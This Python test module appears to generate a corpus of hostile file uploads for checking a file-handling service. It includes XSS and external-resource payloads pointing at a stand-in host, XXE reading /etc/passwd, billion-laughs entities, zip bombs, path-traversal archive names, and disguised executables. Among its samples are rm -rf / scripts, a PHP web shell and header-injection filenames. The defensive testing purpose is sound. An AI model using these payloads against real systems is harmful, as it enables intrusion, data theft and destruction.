"""Markup with scripts, outside entities, archives, false endings and false names."""

from __future__ import annotations

import io
import tempfile
import zipfile
from collections.abc import Callable
from functools import partial
from pathlib import Path

from tests.hostile.items import ALERT, OUTSIDE, Item
from tests.hostile.pictures import saved
from tests.tabular import hostile

PAYLOADS = {
    "script": f"<script>{ALERT}</script>",
    "outside script": f'<script src="{OUTSIDE}/x.js"></script>',
    "error": f"<img src=x onerror={ALERT}>",
    "load": f"<body onload={ALERT}>",
    "frame": f'<iframe src="javascript:{ALERT}"></iframe>',
    "frame of a page": f'<iframe srcdoc="<script>{ALERT}</script>"></iframe>',
    "object": f'<object data="data:text/html,<script>{ALERT}</script>"></object>',
    "embed": f'<embed src="{OUTSIDE}/x.swf">',
    "refresh": f'<meta http-equiv="refresh" content="0;url={OUTSIDE}">',
    "base": f'<base href="{OUTSIDE}/"><a href="x">x</a>',
    "form": f'<form action="{OUTSIDE}"><input name=password autofocus></form>',
    "style": f"<style>@import url({OUTSIDE}/x.css);</style>",
    "link": f'<link rel=stylesheet href="{OUTSIDE}/x.css">',
    "address": f'<a href="javascript:{ALERT}">x</a>',
    "details": f"<details open ontoggle={ALERT}>",
}
SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
WRAPS: dict[str, tuple[str, str, str]] = {
    "svg": (SVG, "</svg>", "svg"),
    "svg later": ('<?xml version="1.0"?>\n<!-- a drawing -->\n' + SVG + "<g>", "</g></svg>", "svg"),
    "html": ("<!doctype html><html>", "</html>", "html"),
    "xml": ('<?xml version="1.0"?><r xmlns:h="http://www.w3.org/1999/xhtml"><h:div>', "</h:div></r>", ""),
}


def markup() -> list[Item]:
    """60 drawings and pages with scripts: kept as they are, and never shown."""
    return [
        Item(
            "markup",
            f"{wrap} {title}",
            f"a.{ending or 'xml'}",
            (before + text + after).encode,
            "kept",
            ending,
        )
        for wrap, (before, after, ending) in WRAPS.items()
        for title, text in PAYLOADS.items()
    ]


def entities() -> list[Item]:
    """30 files with outside or endless entities."""
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    kinds = {
        "a file": '<!ENTITY x SYSTEM "file:///etc/passwd">',
        "an address": f'<!ENTITY x SYSTEM "{OUTSIDE}/x">',
        "a parameter": f'<!ENTITY % p SYSTEM "{OUTSIDE}/x.dtd"> %p; <!ENTITY x "y">',
        "laughs": f'<!ENTITY l0 "ha">{laughs}<!ENTITY x "&l9;">',
        "a circle": '<!ENTITY y "&x;"><!ENTITY x "&y;">',
    }
    found = []
    for title, text in kinds.items():
        dtd = f'<?xml version="1.0"?><!DOCTYPE r [{text}]>'
        found += [
            Item("entity", f"svg {title}", "a.svg", (dtd + SVG + "<text>&x;</text></svg>").encode, "kept", "svg"),
            Item("entity", f"xml {title}", "a.xml", (dtd + "<r>&x;</r>").encode, "kept", "xml"),
            Item("entity", f"wide xml {title}", "a.xml", partial((dtd + "<r>&x;</r>").encode, "utf-16"), "kept", "xml"),
            Item("entity", f"xlsx {title}", "a.xlsx", partial(office, "xl/workbook.xml", dtd), "kept", "xlsx"),
            Item("entity", f"docx {title}", "a.docx", partial(office, "word/document.xml", dtd), "kept", "docx"),
            Item("entity", f"odt {title}", "a.odt", partial(open_document, dtd), "kept", "odt"),
        ]
    return found


def office(part: str, text: str, **others: bytes) -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("[Content_Types].xml", text)
        packed.writestr(part, text)
        for name, content in others.items():
            packed.writestr(name, content)
    return data.getvalue()


def open_document(text: str) -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as packed:
        packed.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        packed.writestr("content.xml", text)
    return data.getvalue()


def zipped(names: list[str], size: int = 1, *, level: int = 9) -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as packed:
        for name in names:
            packed.writestr(zipfile.ZipInfo(name), bytes(size), zipfile.ZIP_DEFLATED, level)
    return data.getvalue()


def made(make: Callable[[Path], Path]) -> bytes:
    """What one of the makers of hostile workbooks writes."""
    with tempfile.TemporaryDirectory() as folder:
        return make(Path(folder) / "made.xlsx").read_bytes()


def archives() -> list[Item]:
    """40 archives that unpack to too much or elsewhere: kept shut."""
    books: dict[str, Callable[[Path], Path]] = {
        "far cell": hostile.far_cell,
        "far dimension": hostile.far_dimension,
        "sparse": hostile.sparse,
        "long cell": lambda path: hostile.long_cell(path, 50_000_000),
        "media": lambda path: hostile.media_bomb(path, 100_000_000),
        "lying": lambda path: hostile.lying_sizes(path, 50_000_000),
        "entries": lambda path: hostile.many_entries(path, 2_100),
        "entities": hostile.entities,
    }
    found = [
        Item("archive", f"book {title}", "a.xlsx", partial(made, make), "kept", "xlsx") for title, make in books.items()
    ]
    found += [
        Item(
            "archive", "book overlapping", "a.xlsx", lambda: made(lambda path: hostile.overlapping(path, 500)), "kept"
        ),
        Item("archive", "book with a password", "a.xlsx", lambda: made(hostile.encrypted), "kept", "xlsx"),
        Item(
            "archive",
            "macros under a plain name",
            "a.xlsx",
            lambda: office("xl/workbook.xml", "<x/>", **{"xl/vbaProject.bin": b"x"}),
            "kept",
            "xlsm",
        ),
        Item(
            "archive",
            "macros in a letter",
            "a.docx",
            lambda: office("word/document.xml", "<x/>", **{"word/vbaProject.bin": b"x"}),
            "kept",
            "docm",
        ),
        Item("archive", "200 MB of nothing", "a.zip", lambda: zipped(["a"], 200_000_000), "kept", "zip"),
        Item(
            "archive",
            "200,000 entries",
            "a.zip",
            lambda: zipped([f"{n:x}" for n in range(200_000)], level=1),
            "",
            "zip",
        ),
        Item("archive", "empty", "a.zip", lambda: b"PK\x05\x06" + bytes(18), "kept", "zip"),
        Item("archive", "only a head", "a.zip", lambda: b"PK\x03\x04" + bytes(60), "kept", "zip"),
        Item("archive", "zip in zips", "a.zip", nested, "kept", "zip"),
        Item("archive", "a lying list", "a.zip", lambda: zipped(["a"])[:-10] + b"\xff" * 10, "kept", "zip"),
        Item("archive", "app", "a.apk", lambda: zipped(["AndroidManifest.xml", "classes.dex"]), "kept", "zip"),
        Item("archive", "java", "a.jar", lambda: zipped(["META-INF/MANIFEST.MF"]), "kept", "zip"),
    ]
    bad = [
        "../../x",
        "/etc/cron.d/x",
        "..\\..\\x",
        "C:\\x",
        "a\x00b",
        "x" * 5_000,
        "\u202etxt.exe",
        "con",
        "a/" * 1_000,
        " ",
    ]
    found += [
        Item("archive", f"names {n}", "a.zip", partial(zipped, [name, "b"]), "kept", "zip")
        for n, name in enumerate(bad)
    ]
    heads = {
        "rar": b"Rar!\x1a\x07\x01\x00",
        "7z": b"7z\xbc\xaf\x27\x1c\x00\x04",
        "gz": b"\x1f\x8b\x08\x00\x00\x00\x00\x00",
    }
    found += [
        Item("archive", f"{ending} {fill}", f"a.{ending}", partial(bytes, head + bytes([fill]) * 400), "kept", ending)
        for ending, head in heads.items()
        for fill in (0, 1, 255)
    ]
    return [*found, Item("archive", "iso", "a.iso", lambda: bytes(32_769) + b"CD001" + bytes(2_000), "refused")]


def nested() -> bytes:
    data = b"x"
    for _level in range(40):
        pack = io.BytesIO()
        with zipfile.ZipFile(pack, "w") as packed:
            packed.writestr("x.zip", data)
        data = pack.getvalue()
    return data


PROGRAMS = {
    "windows": b"MZ\x90\x00\x03" + bytes(400),
    "linux": b"\x7fELF\x02\x01\x01" + bytes(400),
    "mac": b"\xcf\xfa\xed\xfe\x07" + bytes(400),
    "java": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(400),
    "web": b"\x00asm\x01\x00\x00\x00" + bytes(400),
    "installer": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1_200),
}
SCRIPTS = {
    "bat": b"@echo off\r\ndel *.*\r\n",
    "ps1": b"Remove-Item -Recurse C:\\\r\n",
    "sh": b"#!/bin/sh\nrm -rf /\n",
    "js": b"new ActiveXObject('WScript.Shell').Run('calc')",
    "vbs": b'CreateObject("WScript.Shell").Run "calc"\r\n',
    "php": b"<?php system($_GET['c']); ?>",
    "reg": b"Windows Registry Editor Version 5.00\r\n",
    "url": b"[InternetShortcut]\r\nURL=file://evil.example/x\r\n",
    "desktop": b"[Desktop Entry]\nExec=rm -rf /\n",
    "py": b"import os; os.system('calc')\n",
}


def mismatches() -> list[Item]:
    """40 files that are not what they are called."""
    found = [
        Item("mismatch", f"{title} program as {name}", name, partial(bytes, data), "refused")
        for title, data in PROGRAMS.items()
        for name in ("a.pdf", "a.jpg", "a.exe")
    ]
    found += [
        Item("mismatch", f"{ending} script", f"a.{ending}", partial(bytes, data), "kept")
        for ending, data in SCRIPTS.items()
    ]
    pairs = [
        ("a.pdf", saved("PNG"), "png"),
        ("a.jpg", saved("PNG"), "png"),
        ("a.png", saved("JPEG"), "jpg"),
        ("a.html", saved("GIF"), "gif"),
        ("a.jpg", b"%PDF-1.4\nx", "pdf"),
        ("a.png", b"<svg onload=x>", "svg"),
        ("a.jpg", b"<html><script>x</script>", "html"),
        ("a.txt", b"{\\rtf1 x}", "rtf"),
        ("a.docx", b"name,tel\n", "txt"),
        ("a", saved("PNG"), "png"),
        ("a.exe", b"plain words", "txt"),
        ("a.pdf.exe", b"%PDF-1.4\nx", "pdf"),
    ]
    found += [
        Item("mismatch", f"{n} {name} is {ending}", name, partial(bytes, data), "kept", ending)
        for n, (name, data, ending) in enumerate(pairs)
    ]
    return [*found, Item("mismatch", "noise", "a.pdf", lambda: bytes(range(256)) * 40, "refused")]


STEMS = (
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/cron.d/job",
    "C:\\autoexec",
    "file:///etc/passwd",
    "a\x00b",
    "\u202efdp.exe",
    "a\u200bb\u2060c",
    "a\r\nSet-Cookie: x=1",
    "a\r\n\r\n<script>" + ALERT + "</script>",
    "x" * 300,
    "长" * 300,
    ".htaccess",
    "..",
    ".",
    "",
    " ",
    "con",
    "nul",
    "com1",
    "LPT9",
    "a.php",
    "shell.pHaR",
    "a.pdf.exe",
    "invoice.pdf",
    "a;b",
    'a"b',
    "a'b",
    "a%00b",
    "%2e%2e%2fpasswd",
    "a\u2028b",
    "${7*7}{{7*7}}",
    "<img src=x onerror=" + ALERT + ">",
    "=HYPERLINK(1)",
    "-rf",
    "~root",
    "a/b/c",
    "\uff0e\uff0e\uff0fetc",
    "e\u0301\u0327" * 50,
    "\U000e0041\U000e0042a",
)


def names() -> list[Item]:
    """80 names: each of the stems as a text and as a picture."""
    found = []
    for n, stem in enumerate(STEMS):
        ends = "\r\n\r\n" in stem  # there the name ends, and the rest of it is what the file begins with
        found.append(Item("name", f"text {n}", f"{stem}.txt", lambda: b"harmless", "kept", "" if ends else "txt"))
        found.append(Item("name", f"picture {n}", f"{stem}.PNG", lambda: saved("PNG"), "", "" if ends else "png"))
    return found
